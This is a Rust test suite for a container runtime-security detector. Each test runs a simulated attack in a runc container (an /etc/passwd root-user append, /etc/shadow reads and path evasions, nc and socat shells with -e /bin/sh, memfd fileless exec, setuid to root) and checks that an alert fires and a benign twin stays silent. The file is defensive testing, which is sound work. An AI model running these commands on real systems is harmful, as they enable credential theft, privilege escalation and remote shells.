//! Attack simulation: for every default rule, an action inside a real runc container that must
//! fire it (the counter under that container's exact labels and an alert JSON line, within 2 s of
//! the action's start on the test's clock) and a benign twin that must not; the path evasions of the
//! sensitive-file rule; and host-only actions (a host action is `container_id="host"`, the
//! container-only rules stay silent for the host).
//!
//! The tests share one exporter with the shipped rules ([`suite_exporter`]), each with containers
//! of its own (fresh ids), so an alert is told apart by its container id. The benign twin runs
//! first and is judged once the exporter's record shows it evaluated to its end, on the counters,
//! stdout and the alerts file ([`attack::check_twins`]). Latencies are printed as
//! `LATENCY rule [container]: ms` (run with `--nocapture`).

#[macro_use]
mod common;

use std::time::Duration;

use common::attack::{
    self, accept_on, alerts_matching, expect_detection, expect_no_detection, host_address, suite_exporter, Action,
    Detection, Opts, Target,
};
use common::{sample, Exporter, SHIPPED_RULES};

/// [`common::attack::check_twins`] with the shipped rules and the same `opts` for both sides.
fn check(rule: &str, priority: &str, attack: &str, benign: &str, opts: Opts) -> Detection {
    check_twins(rule, priority, (attack, &opts), (benign, &opts))
}

/// [`common::attack::check_twins`] with the shipped rules.
fn check_twins(rule: &str, priority: &str, attack: (&str, &Opts), benign: (&str, &Opts)) -> Detection {
    attack::check_twins(suite_exporter(), rule, priority, attack, benign).0
}

fn with_caps(caps: &[&'static str]) -> Opts {
    Opts { caps: caps.to_vec(), ..Opts::default() }
}

// ---- files ----------------------------------------------------------------------------------

#[test]
fn write_below_etc() {
    kernel_test!(write_below_etc);
    let d = check(
        "Write below etc",
        "error",
        "echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd",
        "echo note >> /tmp/notes",
        Opts::writable(),
    );
    assert_eq!(d.field("fd.name"), "/etc/passwd", "{}", d.alert);
}

#[test]
fn read_sensitive_file_untrusted() {
    kernel_test!(read_sensitive_file_untrusted);
    let d = check("Read sensitive file untrusted", "warning", "cat /etc/shadow", "cat /etc/hostname", Opts::default());
    assert_eq!(d.field("fd.name"), "/etc/shadow", "{}", d.alert);
}

#[test]
fn change_permissions_of_sensitive_file() {
    kernel_test!(change_permissions_of_sensitive_file);
    let rule = "Change permissions of sensitive file";
    let d = check(rule, "error", "chmod 0644 /etc/shadow", "chmod 0644 /etc/hostname", Opts::writable());
    assert_eq!(d.field("fd.name"), "/etc/shadow", "{}", d.alert);
}

#[test]
fn link_to_sensitive_file_symbolic() {
    kernel_test!(link_to_sensitive_file_symbolic);
    let d = check(
        "Link to sensitive file",
        "warning",
        "ln -s /etc/shadow /tmp/s",
        "ln -s /etc/hostname /tmp/s",
        Opts::writable(),
    );
    assert_eq!(d.field("evt.arg.target"), "/etc/shadow", "{}", d.alert);
}

#[test]
fn link_to_sensitive_file_hard() {
    kernel_test!(link_to_sensitive_file_hard);
    let d = check(
        "Link to sensitive file",
        "warning",
        "ln /etc/shadow /tmp/h",
        "ln /etc/hostname /tmp/h",
        Opts::writable(),
    );
    assert_eq!(d.field("evt.arg.oldpath"), "/etc/shadow", "{}", d.alert);
}

/// Paths longer than the 255 bytes an event carries, padded with `./` in front of the file: the
/// kernel cannot judge them by their first bytes and sends them whole, so they alert as the short
/// forms do.
#[test]
fn paths_padded_past_what_an_event_carries() {
    kernel_test!(paths_padded_past_what_an_event_carries);
    let padded = |file: &str| format!("/{}{file}", "./".repeat(150));
    let (shadow, hostname) = (padded("etc/shadow"), padded("etc/hostname"));
    let rule = "Change permissions of sensitive file";
    let (attack, benign) = (format!("chmod 640 {shadow}"), format!("chmod 640 {hostname}"));
    let d = check(rule, "error", &attack, &benign, Opts::writable());
    assert_eq!(d.field("fd.name"), "/etc/shadow", "{}", d.alert);
    let (attack, benign) = (format!("ln -s {shadow} /tmp/s"), format!("ln -s {hostname} /tmp/s"));
    let d = check("Link to sensitive file", "warning", &attack, &benign, Opts::writable());
    assert_eq!(d.field("evt.arg.target"), "/etc/shadow", "{}", d.alert);
}

// ---- processes ------------------------------------------------------------------------------

/// The same shell with a terminal (runc allocates a pty, as `kubectl exec -it` gets one) and,
/// as the twin, without one.
#[test]
fn terminal_shell_in_container() {
    kernel_test!(terminal_shell_in_container);
    let rule = "Terminal shell in container";
    let d =
        check_twins(rule, "notice", ("true", &Opts { terminal: true, ..Opts::default() }), ("true", &Opts::default()));
    assert_eq!(d.field("proc.name"), "sh", "{}", d.alert);
}

/// memfd_create + fexecve (`execveat(fd, "", AT_EMPTY_PATH)`), whose success this kernel reports
/// at execve's exit; the kernel decides the rule from the task's executable file.
#[test]
fn fileless_execution_via_memfd() {
    kernel_test!(fileless_execution_via_memfd);
    let d =
        check("Fileless execution via memfd", "critical", "tw-helper memfd", "tw-helper exec-disk", Opts::default());
    assert!(d.field("proc.exepath").as_str().is_some_and(|p| p.starts_with("/memfd:")), "{}", d.alert);
}

/// A bind shell with busybox nc (-e runs the program on the connection); the twin listens
/// without running one.
#[test]
fn netcat_remote_shell() {
    kernel_test!(netcat_remote_shell);
    let rule = "Netcat or socat remote shell";
    // By path: busybox sh runs a bare applet name without an exec of that name (the kernel never
    // sees a program called nc start), so the attack would not be what a real nc binary does.
    check(
        rule,
        "critical",
        "/bin/nc -l -p 40001 -e /bin/sh & sleep 1; kill $!",
        "/bin/nc -l -p 40001 & sleep 1; kill $!",
        Opts::default(),
    );
}

/// A reverse shell whose listener is not there (connection refused): nc exits at once, and the
/// attempt must still be seen (its arguments come from the kernel's exec record, not /proc). The
/// twin makes the same refused connection without -e.
#[test]
fn netcat_reverse_shell_attempt_that_fails_at_once() {
    kernel_test!(netcat_reverse_shell_attempt_that_fails_at_once);
    let rule = "Netcat or socat remote shell";
    check(rule, "critical", "/bin/nc 127.0.0.1 9 -e /bin/sh; true", "/bin/nc 127.0.0.1 9; true", Opts::default());
}

/// socat with an EXEC: address (the helper under the name socat: busybox has none).
#[test]
fn socat_remote_shell() {
    kernel_test!(socat_remote_shell);
    let rule = "Netcat or socat remote shell";
    check(rule, "critical", "socat TCP-LISTEN:40002 EXEC:/bin/sh", "socat TCP-LISTEN:40002 STDOUT", Opts::default());
}

/// `apk` is busybox under that name: it fails ("applet not found"), but its exec is the event.
#[test]
fn package_management_process_in_container() {
    kernel_test!(package_management_process_in_container);
    let rule = "Package management process in container";
    let d = check(rule, "error", "apk add curl; true", "ls /var/tmp", Opts::default());
    assert_eq!(d.field("proc.name"), "apk", "{}", d.alert);
}

/// uid 1000 holding CAP_SETUID (ambient): setuid(0) succeeds; the twin sets its own uid.
#[test]
fn setuid_to_root_by_non_root() {
    kernel_test!(setuid_to_root_by_non_root);
    let opts = Opts { user: Some((1000, 1000)), caps: vec!["CAP_SETUID"], ..Opts::default() };
    let d = check("Setuid to root by non-root", "critical", "tw-helper setuid 0", "tw-helper setuid 1000", opts);
    assert_eq!(d.field("user.uid"), 1000, "{}", d.alert);
}

/// PTRACE_ATTACH to a child; the twin's child asks to be traced (PTRACE_TRACEME, as under a
/// debugger), which attaches to nothing.
#[test]
fn ptrace_attach_to_process() {
    kernel_test!(ptrace_attach_to_process);
    check(
        "Ptrace attach to process",
        "warning",
        "tw-helper ptrace-attach",
        "tw-helper ptrace-traceme",
        Opts::default(),
    );
}

// ---- network --------------------------------------------------------------------------------

/// A connection from a container sharing the host's network to `port` on a host address (not
/// loopback: `outbound` ignores 127.0.0.0/8), where a listener accepts; the twin connects the
/// same way to an ordinary port.
fn outbound(rule: &str, priority: &str, port: u16) {
    let ip = host_address();
    let benign = std::net::TcpListener::bind("0.0.0.0:0").expect("bind benign port");
    let benign_port = benign.local_addr().expect("addr").port();
    drop(benign);
    let _listeners = (accept_on(port), accept_on(benign_port));
    let opts = Opts { host_network: true, ..Opts::default() };
    let (attack, twin) = (format!("echo hi | nc -w 2 {ip} {port}"), format!("echo hi | nc -w 2 {ip} {benign_port}"));
    let d = check(rule, priority, &attack, &twin, opts);
    assert_eq!(d.field("fd.name"), format!("{ip}:{port}").as_str(), "{}", d.alert);
}

#[test]
fn outbound_connection_to_suspicious_port() {
    kernel_test!(outbound_connection_to_suspicious_port);
    outbound("Outbound connection to suspicious port", "warning", 4444);
}

#[test]
fn outbound_connection_to_crypto_miner_pool_port() {
    kernel_test!(outbound_connection_to_crypto_miner_pool_port);
    outbound("Outbound connection to crypto-miner pool port", "critical", 3333);
}

// ---- kernel, mounts, namespaces -------------------------------------------------------------

/// The twin lists the mounts (same tool, no mount syscall); runc's own setup mounts in both
/// containers' cgroups must not count either.
#[test]
fn mount_in_container() {
    kernel_test!(mount_in_container);
    let rule = "Mount in container";
    let d = check(rule, "warning", "mount -t tmpfs none /mnt && umount /mnt", "mount", with_caps(&["CAP_SYS_ADMIN"]));
    assert_eq!(d.field("proc.name"), "mount", "{}", d.alert);
}

#[test]
fn namespace_change_in_container() {
    kernel_test!(namespace_change_in_container);
    let rule = "Namespace change in container";
    let d = check(rule, "notice", "unshare -m true", "ls /proc/self/ns", with_caps(&["CAP_SYS_ADMIN"]));
    assert_eq!(d.field("proc.name"), "unshare", "{}", d.alert);
}

/// This kernel has no module support (CONFIG_MODULES off): init_module/finit_module have no
/// tracepoints; their entry is the kernel's "not implemented" stub, so the exporter completes
/// their events at entry with ENOSYS (and says so at start) instead of warning that they cannot
/// be traced. On a kernel with modules the module syscalls are traced at their exit and named in
/// neither message. "Kernel module load" wants a successful load (`evt.rawres = 0`): a failed
/// insmod (of a file that is no module, refused on either kind of kernel) must not fire it.
///
/// Not tested anywhere: that a *successful* load fires it. That needs a kernel that loads
/// modules and a module built for it; these VMs have neither, so the rule's positive case is
/// covered only by the rules tests on recorded events (`exporter/tests/data/rules/events`).
#[test]
fn kernel_module_load_without_module_support() {
    kernel_test!(kernel_module_load_without_module_support);
    let traceable = std::path::Path::new("/sys/kernel/tracing/events/syscalls/sys_exit_finit_module").exists();
    let port = common::free_port();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_exporter"))
        // Unpinned, as every test's exporter (common::Exporter).
        .args(["--rules-dir", SHIPPED_RULES, "--web.listen-address", &format!("127.0.0.1:{port}"), "--bpf.pin-dir", ""])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn exporter");
    let stderr = child.stderr.take().expect("stderr");
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in std::io::BufRead::lines(std::io::BufReader::new(stderr)).map_while(Result::ok) {
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    let mut log = Vec::new();
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while !log.iter().any(|l: &String| l.contains("detection started")) {
        let left = deadline.saturating_duration_since(std::time::Instant::now());
        match rx.recv_timeout(left) {
            Ok(line) => log.push(line),
            Err(_) => {
                let _ = child.kill();
                panic!("exporter never logged 'detection started':\n{}", log.join("\n"));
            }
        }
    }
    let warning = log.iter().find(|l| l.contains("no exit tracepoint")).cloned().unwrap_or_default();
    let at_entry = log.iter().filter(|l| l.contains("not implemented by this kernel")).cloned().collect::<Vec<_>>();
    let _ = child.kill();
    let _ = child.wait();
    assert!(!warning.contains("init_module"), "module syscalls are never untraceable: {warning}");
    if traceable {
        assert!(at_entry.is_empty(), "module syscalls are traceable here: {at_entry:?}");
    } else {
        let named = |call: &str| at_entry.iter().any(|l| l.contains(&format!("syscall=\"{call}\"")));
        assert!(
            named("init_module") && named("finit_module"),
            "no notice that module syscalls complete at entry:\n{}",
            log.join("\n")
        );
        eprintln!(
            "NOTE Kernel module load cannot fire on this kernel: loading fails with ENOSYS, the rule wants rawres = 0"
        );
    }

    // The attempt itself fails (ENOSYS without module support, ENOEXEC with it), so it must not
    // fire the rule: judged once it was evaluated, with a later detection as the outputs' marker.
    let exporter = suite_exporter();
    let rootfs = common::attack::attack_rootfs();
    std::fs::write(rootfs.path().join("tmp/rootkit.ko"), b"\x7fELF not really a module").expect("write module");
    let target = Target::new("attack-insmod");
    let mut insmod = Action::start_in(&target, rootfs, "insmod /tmp/rootkit.ko; true", &Opts::default());
    let attempt = insmod.wait_evaluated(exporter);
    let mut marker = Action::start(&Target::new("marker-insmod"), "/bin/cat /etc/shadow", &Opts::default());
    let marker = expect_detection(exporter, &mut marker, "Read sensitive file untrusted", "warning");
    expect_no_detection(exporter, &attempt, &marker, Some("Kernel module load"));
}

// ---- path evasions of the sensitive-file rule -------------------------------------------------

/// `action` reads /etc/shadow under another spelling; the alert must name /etc/shadow.
fn evasion(name: &str, action: &str, opts: Opts) {
    let mut run = Action::start(&Target::new(name), action, &opts);
    let d = expect_detection(suite_exporter(), &mut run, "Read sensitive file untrusted", "warning");
    assert_eq!(d.field("fd.name"), "/etc/shadow", "{action}: {}", d.alert);
}

// The short-lived reader exits before its event is evaluated, so user space could not resolve
// these through /proc: the kernel names the opened file from its descriptor (cwd, `..`, `//` and
// symlinks resolved) and recognises a hard link by the watched file's device and inode.

#[test]
fn evasion_relative_path_from_etc() {
    kernel_test!(evasion_relative_path_from_etc);
    evasion("evasion-cwd", "cd /etc; cat shadow", Opts::default());
}

#[test]
fn evasion_dot_dot_and_double_slash() {
    kernel_test!(evasion_dot_dot_and_double_slash);
    evasion("evasion-dotdot", "cat /tmp/../etc//shadow", Opts::default());
}

#[test]
fn evasion_symlink_to_shadow() {
    kernel_test!(evasion_symlink_to_shadow);
    evasion("evasion-symlink", "ln -s /etc/shadow /tmp/s && cat /tmp/s", Opts::writable());
}

#[test]
fn evasion_hard_link_to_shadow() {
    kernel_test!(evasion_hard_link_to_shadow);
    evasion("evasion-hardlink", "ln /etc/shadow /tmp/h && cat /tmp/h", Opts::writable());
}

/// The same evasions by a reader that stays (`tail -f`, a second): the resolution itself works
/// while the process can still be looked at.
#[test]
fn evasion_relative_path_from_etc_by_a_live_reader() {
    kernel_test!(evasion_relative_path_from_etc_by_a_live_reader);
    evasion("evasion-cwd-live", "cd /etc; tail -f shadow & sleep 1; kill $!", Opts::default());
}

#[test]
fn evasion_symlink_to_shadow_by_a_live_reader() {
    kernel_test!(evasion_symlink_to_shadow_by_a_live_reader);
    evasion(
        "evasion-symlink-live",
        "ln -s /etc/shadow /tmp/s && { tail -f /tmp/s & sleep 1; kill $!; }",
        Opts::writable(),
    );
}

#[test]
fn evasion_hard_link_to_shadow_by_a_live_reader() {
    kernel_test!(evasion_hard_link_to_shadow_by_a_live_reader);
    evasion(
        "evasion-hardlink-live",
        "ln /etc/shadow /tmp/h && { tail -f /tmp/h & sleep 1; kill $!; }",
        Opts::writable(),
    );
}

// ---- host ------------------------------------------------------------------------------------

/// The host reading /etc/shadow (with a reader under a name of its own, this process's id in it,
/// so other processes and other runs of the tests cannot be mistaken for it) is counted and
/// alerted as container_id="host".
#[test]
fn host_read_of_shadow_is_labelled_host() {
    kernel_test!(host_read_of_shadow_is_labelled_host);
    let exporter = suite_exporter();
    let rule = "Read sensitive file untrusted";
    let dir = tempfile::tempdir().expect("tempdir");
    // At most 15 characters: the kernel's comm, which proc.name is, keeps no more.
    let name = format!("twread{}", std::process::id());
    let reader = dir.path().join(&name);
    std::fs::copy("/bin/cat", &reader).expect("copy cat");
    let status = std::process::Command::new(&reader)
        .arg("/etc/shadow")
        .stdout(std::process::Stdio::null())
        .status()
        .expect("run reader");
    assert!(status.success());
    let labels = [
        ("rule", rule),
        ("priority", "warning"),
        ("container_id", "host"),
        ("container_name", ""),
        ("image", ""),
        ("pod", ""),
        ("namespace", ""),
    ];
    let mut seen = None;
    let found = common::eventually(Duration::from_secs(3), || {
        seen = alerts_matching(exporter, rule, &name).into_iter().find(|a| a["output_fields"]["proc.name"] == name);
        seen.is_some() && sample(&exporter.metrics(), "tracewarden_rule_matches_total", &labels).is_some()
    });
    assert!(found, "host read not alerted/counted as host: {seen:?}");
    let alert = seen.expect("alert");
    assert_eq!(alert["container_id"], "host", "{alert}");
    assert_eq!(alert["output_fields"]["fd.name"], "/etc/shadow", "{alert}");
}

/// Container-only rules stay silent for the host: a mount (in a private mount namespace, so the
/// machine is not disturbed: that unshare is itself a namespace change), and a package manager
/// run on the host. `--record` proves the exporter saw those events and decided not to alert.
#[test]
fn container_only_rules_do_not_fire_for_the_host() {
    kernel_test!(container_only_rules_do_not_fire_for_the_host);
    let dir = tempfile::tempdir().expect("tempdir");
    let mnt = dir.path().join("mnt");
    let apk = dir.path().join("apk");
    // The shipped rules plus witnesses that match the same host actions without the container
    // condition: they prove the actions were seen, so the silence of the container-only rules
    // (which the kernel decides, and drops for the host) means something.
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).expect("mkdir rules");
    for entry in std::fs::read_dir(SHIPPED_RULES).expect("rules").flatten() {
        std::fs::copy(entry.path(), rules.join(entry.file_name())).expect("copy rules");
    }
    std::fs::write(
        rules.join("90-witness.yaml"),
        format!(
            "- rule: Witness host mount\n  desc: d\n  condition: evt.type = mount and evt.arg.dir = {}\n  output: o\n  priority: debug\n\
             - rule: Witness host apk\n  desc: d\n  condition: spawned_process and proc.name = apk and container.id = host\n  output: o\n  priority: debug\n",
            mnt.display()
        ),
    )
    .expect("write witnesses");
    let exporter = Exporter::start(&["--rules-dir", rules.to_str().expect("utf-8")]);
    std::fs::create_dir(&mnt).expect("mkdir mnt");
    let script = format!("mount -t tmpfs tw-host-mount {0} && umount {0}", mnt.display());
    let status =
        std::process::Command::new("unshare").args(["-m", "sh", "-c", &script]).status().expect("unshare mount");
    assert!(status.success(), "host mount failed");
    std::os::unix::fs::symlink("/bin/busybox", &apk).expect("symlink apk");
    let _ = std::process::Command::new(&apk).arg("add").output().expect("run apk");

    let witnessed = |rule: &str| exporter.metrics().lines().any(|l| l.contains(&format!("rule=\"{rule}\"")));
    assert!(
        common::eventually(Duration::from_secs(5), || witnessed("Witness host mount") && witnessed("Witness host apk")),
        "the host's mount and exec were not seen:\n{}",
        exporter.metrics()
    );
    // The container-only rules were decided at the same time as the witnesses, in the kernel;
    // give a wrong alert line a moment anyway.
    std::thread::sleep(Duration::from_millis(300));
    for rule in ["Mount in container", "Namespace change in container", "Package management process in container"] {
        let host: Vec<_> =
            alerts_matching(&exporter, rule, "\"host\"").into_iter().filter(|a| a["container_id"] == "host").collect();
        assert!(host.is_empty(), "{rule} fired for the host: {host:?}");
        assert!(
            !exporter
                .metrics()
                .lines()
                .any(|l| l.contains(&format!("rule=\"{rule}\"")) && l.contains("container_id=\"host\"")),
            "{rule} counted for the host"
        );
    }
}

// ---- container identity ------------------------------------------------------------------------

/// A container that reads /etc/shadow and exits at once (runc deletes its state with it), as a
/// short job or a crash-looping pod does: the match must still carry its name, image and
/// namespace, although its state file lived for a few milliseconds only.
#[test]
fn a_container_that_exits_at_once_keeps_its_labels() {
    kernel_test!(a_container_that_exits_at_once_keeps_its_labels);
    let exporter = suite_exporter();
    let rule = "Read sensitive file untrusted";
    let rootfs = common::attack::attack_rootfs();
    let target = Target::new("short-lived");
    target.container(&rootfs, "cat /etc/shadow >/dev/null", &Opts::default()).run_to_completion();
    let labels = target.match_labels(rule, "warning");
    let counted = common::eventually(Duration::from_secs(3), || {
        sample(&exporter.metrics(), "tracewarden_rule_matches_total", &labels).is_some()
    });
    let series: Vec<String> = exporter
        .metrics()
        .lines()
        .filter(|l| l.contains(target.short_id()) && l.contains("rule_matches_total"))
        .map(str::to_owned)
        .collect();
    assert!(counted, "not counted under {labels:?}; its series: {series:?}");
}
